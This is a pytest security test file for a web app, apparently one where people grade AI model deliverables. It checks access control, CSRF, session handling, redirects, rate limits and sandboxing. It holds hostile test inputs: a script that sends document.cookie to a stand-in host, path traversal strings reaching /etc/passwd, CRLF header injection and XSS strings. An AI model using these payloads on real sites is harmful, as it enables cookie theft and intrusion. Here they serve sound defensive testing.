"""The guard: who gets in, what a form needs, what is not one's own, and what hostile requests and files get."""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page
from starlette.routing import BaseRoute, Route

from guildhall.domain.halls import Member, Role
from guildhall.domain.prepared import VERSION, Prepared, PreparedFile
from guildhall.domain.submissions import Submission
from guildhall.store.workspace import Workspace
from guildhall.web.app import routes
from guildhall.web.rendering import rendered
from guildhall.web.security import SharedLimit
from guildhall.web.site import Addresses
from tests.web.live import Live, Visitor
from tests.web.studies import make_task, open_study

HOSTILE = b"""<!doctype html><body><img src="http://outside.invalid/beacon.png">
<script>fetch("http://outside.invalid/?" + document.cookie); parent.document.title = "taken";</script>"""


def guarded(found: list[BaseRoute] | None = None) -> Iterator[tuple[Route, str]]:
    """Every page that names its roles, with each of its methods."""
    for route in found or routes():
        if isinstance(route, Route) and hasattr(route.endpoint, "roles"):
            yield from ((route, method) for method in sorted((route.methods or set()) - {"HEAD"}))


MATRIX = [pytest.param(route, method, id=f"{method} {route.path}") for route, method in guarded()]


def ask(visitor: Visitor, route: Route, method: str, seat: str = "0" * 32) -> httpx.Response:
    path = route.path
    for name in route.param_convertors:
        path = path.replace(f"{{{name}}}", seat)
    return visitor.get(path) if method == "GET" else visitor.post(path)


@pytest.fixture(scope="module")
def insiders(live: Live) -> dict[Role, Visitor]:
    return {role: live.client(live.invite(role)) for role in Role}


@pytest.mark.parametrize(("route", "method"), MATRIX)
def test_no_page_opens_for_another_role_or_for_nobody(
    live: Live, insiders: dict[Role, Visitor], route: Route, method: str
) -> None:
    allowed: tuple[Role, ...] = route.endpoint.roles  # type: ignore[attr-defined]
    for role, visitor in insiders.items():
        if role not in allowed:
            assert ask(visitor, route, method).status_code == 404, role
    outside = ask(live.client(), route, method)
    assert (outside.status_code, outside.headers.get("location")) == (303, "/enter")


def seated(live: Live) -> tuple[Member, Visitor, str]:
    member = live.invite()
    visitor = live.client(member)
    seat = visitor.post("/sets/claim").headers["location"].split("/")[2]
    visitor.post(f"/sets/{seat}/brief")
    return member, visitor, seat


def test_another_graders_seat_does_not_exist(live: Live) -> None:
    _, _, seat = seated(live)
    other = live.client(live.invite())
    tried = [ask(other, route, method, seat).status_code for route, method in guarded() if "{seat}" in route.path]
    assert set(tried) == {404} and len(tried) >= 9


def test_a_link_opens_once_and_only_by_its_button(live: Live) -> None:
    member = live.invite()
    path = live.link(member).removeprefix(live.address)
    first, second = live.client(), live.client()
    for _ in range(3):
        assert first.get(path).status_code == 200
    assert first.http.post(path).headers["location"] == "/"
    assert first.get("/sets").status_code == 200
    assert second.http.post(path).status_code == 410 and second.get("/sets").status_code == 303


def test_a_link_is_good_for_a_quarter_of_an_hour(live: Live) -> None:
    path = live.link(live.invite()).removeprefix(live.address)
    live.skew_s = 16 * 60
    try:
        assert live.client().http.post(path).status_code == 410
    finally:
        live.skew_s = 0


def test_a_session_brought_along_is_never_taken_over(live: Live) -> None:
    visitor = live.client()
    visitor.http.cookies.set("guildhall", "chosen-by-an-attacker")
    path = live.link(live.invite()).removeprefix(live.address)
    answer = visitor.http.post(path)
    cookie = answer.headers["set-cookie"]
    assert "chosen-by-an-attacker" not in cookie
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Domain" not in cookie
    attacker = live.client()
    attacker.http.cookies.set("guildhall", "chosen-by-an-attacker")
    assert attacker.get("/sets").status_code == 303


def test_leaving_ends_the_session_on_the_server(live: Live) -> None:
    visitor = live.client(live.invite())
    kept = visitor.http.cookies.get("guildhall")
    assert visitor.post("/leave").status_code == 303
    again = live.client()
    again.http.cookies.set("guildhall", kept or "")
    assert again.get("/sets").status_code == 303


@pytest.mark.parametrize(
    ("headers", "token", "status"),
    [
        ({}, "", 403),
        ({}, "guessed", 403),
        ({"sec-fetch-site": "cross-site"}, None, 403),
        ({"sec-fetch-site": "same-site"}, None, 403),
        ({"origin": "http://evil.invalid"}, None, 403),
        ({"sec-fetch-site": "same-origin"}, None, 303),
    ],
)
def test_a_form_counts_only_with_its_token_and_from_our_own_pages(
    live: Live, headers: dict[str, str], token: str | None, status: int
) -> None:
    visitor = live.client(live.invite())
    data = {"form_token": visitor.token if token is None else token}
    assert visitor.http.post("/sets/claim", data=data, headers=headers).status_code == status


def test_nothing_changes_on_get(live: Live) -> None:
    visitor = live.client(live.invite())
    for path in ("/sets/claim", "/leave"):
        assert visitor.get(path).status_code in {404, 405}


@pytest.mark.parametrize(
    "path",
    [
        "/static/../../guildhall.key",
        "/static/..%2f..%2f..%2fguildhall.toml",
        "/static/%2e%2e/%2e%2e/app.py",
        "/static//etc/passwd",
        "/static/templates/base.html",
    ],
)
def test_static_files_stay_inside_their_folder(live: Live, path: str) -> None:
    assert live.client().get(path).status_code == 404


def file_links(visitor: Visitor, seat: str) -> list[str]:
    import html
    import re

    text = visitor.get(f"/sets/{seat}").text
    return [html.unescape(link) for link in re.findall(r'(?:href|src)="(http://files[^"]+)"', text)]


def test_file_links_are_signed_for_one_seat_and_grow_old(live: Live) -> None:
    _, visitor, seat = seated(live)
    _, other, another = seated(live)
    links = file_links(visitor, seat)
    assert links and not set(links) & set(file_links(other, another))
    assert {visitor.file(link).status_code for link in links} == {200}
    assert visitor.file(links[0].replace("/f/", "/f/x")).status_code == 403
    live.skew_s = 0
    with_headers = visitor.file(links[0]).headers
    assert not {"last-modified", "etag", "set-cookie", "server"} & set(with_headers)
    assert with_headers["content-security-policy"].startswith("sandbox; default-src 'none'")


def test_a_player_may_seek_and_no_range_breaks_anything(live: Live) -> None:
    _, visitor, seat = seated(live)
    link = file_links(visitor, seat)[0]
    whole = visitor.file(link).content
    part = visitor.file(link, {"range": "bytes=2-5"})
    assert (part.status_code, part.content) == (206, whole[2:6])
    assert not {"last-modified", "etag"} & set(part.headers)
    # Nobody has a mark of ours to compare with, so whoever sends one gets the whole.
    asked = visitor.file(link, {"range": "bytes=2-5", "if-range": '"made-up"'})
    assert (asked.status_code, asked.content) == (200, whole)
    for broken in ("bytes=9-2", "bytes=99999999-", "lines=1-2", "bytes=" + "0-1," * 2000):
        assert visitor.file(link, {"range": broken}).status_code in {200, 206, 400, 416}, broken[:20]


def test_a_name_in_a_link_cannot_write_headers_or_choose_a_type(live: Live) -> None:
    _, visitor, seat = seated(live)
    link = file_links(visitor, seat)[-1]
    base = link.rsplit("/", 1)[0]
    answer = visitor.file(f"{base}/x%0d%0aSet-Cookie:%20a=b%22;filename=evil.html")
    assert "set-cookie" not in answer.headers and "\n" not in answer.headers["content-disposition"]
    assert "text/html" not in answer.headers["content-type"]
    assert live.client().get("/enter/%0d%0aSet-Cookie:%20a=b").headers.get("set-cookie") is None


@pytest.mark.parametrize(
    "path", ["//evil.invalid", "/%5cevil.invalid", "/enter?next=http://evil.invalid", "/?next=//x"]
)
def test_no_address_sends_a_visitor_elsewhere(live: Live, path: str) -> None:
    visitor = live.client(live.invite())
    raw = visitor.http.build_request("GET", f"{live.address}{path}")
    location = visitor.http.send(raw).headers.get("location", "/")
    assert location.startswith("/") and not location.startswith(("//", "/\\"))


def test_bodies_beyond_the_limit_are_refused_before_they_are_kept(live: Live) -> None:
    _, visitor, seat = seated(live)
    path = f"/sets/{seat}/draft"
    assert visitor.post(path, {"reason": "x" * (3 << 20)}).status_code in {400, 413}
    many = {f"field-{number}": "x" for number in range(5000)}
    assert visitor.post(path, many).status_code == 400
    assert visitor.http.post(path, files={"reason": ("bomb.zip", b"PK" * 1000)}).status_code == 400
    assert visitor.post(path, {"draft_version": "nonsense"}).status_code == 400


def test_entries_are_limited_in_number(live: Live) -> None:
    visitor = live.client()
    statuses = {
        visitor.http.post(f"/enter/guess-{number}", headers={"x-forwarded-for": f"9.9.9.{number}"}).status_code
        for number in range(60)
    }
    assert statuses <= {410, 429} and 429 in statuses


def test_tries_are_counted_together_by_all_processes_of_a_workspace(tmp_path: Path) -> None:
    now = [1e9]
    first, second = (
        SharedLimit(tmp_path / "cache" / "tries", b"entries", per_minute=6, burst=4, clock=lambda: now[0]) for _ in "ab"
    )
    assert [one.allows("a") for one in (first, second) * 3] == [True] * 4 + [False] * 2
    assert second.allows("b") and SharedLimit(first.file, b"letters", 6, 4, clock=lambda: now[0]).allows("a")
    assert not SharedLimit(first.file, b"entries", 6, 4, clock=lambda: now[0]).allows("a")
    now[0] += 20
    assert [one.allows("a") for one in (second, first, second)] == [True, True, False]
    now[0] += 4000
    assert first.allows("c")
    with closing(sqlite3.connect(first.file)) as kept:
        assert kept.execute("SELECT count(*) FROM tries").fetchone() == (1,), "who tried is forgotten after an hour"


def test_where_tries_cannot_be_shared_each_process_counts_for_itself(tmp_path: Path) -> None:
    (tmp_path / "tries").mkdir()
    limit = SharedLimit(tmp_path / "tries", b"entries", per_minute=1, burst=2)
    assert [limit.allows("a") for _ in range(3)] == [True, True, False]


def test_every_page_carries_the_protective_headers(live: Live) -> None:
    for path in ("/enter", "/nowhere", "/static/guildhall.css"):
        headers = live.client().get(path).headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy and "frame-ancestors 'none'" in policy
        assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "no-referrer"


def test_one_host_name_for_both_origins_is_refused() -> None:
    from guildhall.errors import InputError

    with pytest.raises(InputError, match="a second port is not a second origin"):
        Addresses("http://localhost:1", "http://localhost:2")


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "![a](http://outside.invalid/p.png)",
        "<http://outside.invalid>",
        "[a]: http://outside.invalid\n\n[a]",
        '<svg onload="alert(1)">',
    ],
)
def test_markdown_makes_no_element_that_could_load_or_lead_anywhere(text: str) -> None:
    made = str(rendered(text))
    assert not any(tag in made for tag in ("<img", "<a", "<svg", "<script", "<http"))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    """A study whose model delivered a page and a drawing that try to reach out."""
    path = tmp_path_factory.mktemp("hostile") / "workspace"
    with Workspace.create(path) as workspace:
        open_study(workspace, [make_task(1)], models=0)
        files = tuple(
            PreparedFile(
                kind=kind, ending=f".{kind}", copied_as=kind, copied=workspace.blobs.put(HOSTILE + kind.encode())
            )
            for kind in ("html", "svg")
        )
        submission = Submission(task="task-1", author={"kind": "model", "name": "m", "model": "x"}, text="<b>hi</b>")
        workspace.store.add(submission)
        workspace.store.add(Prepared(subject=submission.key, version=VERSION, files=files, text=submission.text))
        open_again(workspace)
    served = Live(path).start()
    yield served
    served.stop()


def open_again(workspace: Workspace) -> None:
    from guildhall.domain.studies import Study
    from guildhall.grading.opening import layout_of
    from guildhall.grading.queue import Queue

    [study] = workspace.store.find(Study)
    layout = layout_of(workspace, study)
    workspace.store.add_all(layout.comparisons)
    Queue(workspace.store).plan(layout.slots)


def test_hostile_deliverables_make_no_request_and_the_files_origin_sees_no_cookie(hostile: Live, tab: Page) -> None:
    asked: list[tuple[str, dict[str, str]]] = []
    tab.context.on("request", lambda request: asked.append((request.url, request.all_headers())))
    tab.goto(hostile.link(hostile.invite()))
    tab.get_by_role("button", name="Come in").click()
    tab.get_by_role("button", name="Take the next set").click()
    tab.get_by_role("button", name="I have read this").click()
    tab.wait_for_load_state("networkidle")
    links: set[str] = set()
    for one in tab.locator(".files button").all():  # one file a side is open
        one.click()
        tab.wait_for_load_state("networkidle")
        links |= set(tab.locator("a[download]").evaluate_all("all => all.map(one => one.href)"))
    odd = sorted(link for link in links if "/f/" in link and link.endswith((".html", ".svg")))
    assert len(odd) == 2
    for link in odd:
        with tab.expect_download() as started:
            tab.evaluate("link => { location.href = link }", link)
        assert started.value.suggested_filename[0] in "AB"
    frame = "link => { const f = document.createElement('iframe'); f.src = link; document.body.append(f); }"
    for link in odd:
        tab.evaluate(frame, link)
    tab.wait_for_timeout(500)
    assert tab.title() == "Compare · Guildhall"
    assert not [url for url, _ in asked if "outside.invalid" in url]
    to_files = [headers for url, headers in asked if url.startswith(hostile.site.addresses.files)]
    assert to_files and not [headers for headers in to_files if "cookie" in headers]
    assert [headers for url, headers in asked if url.startswith(hostile.address) and "cookie" in headers]
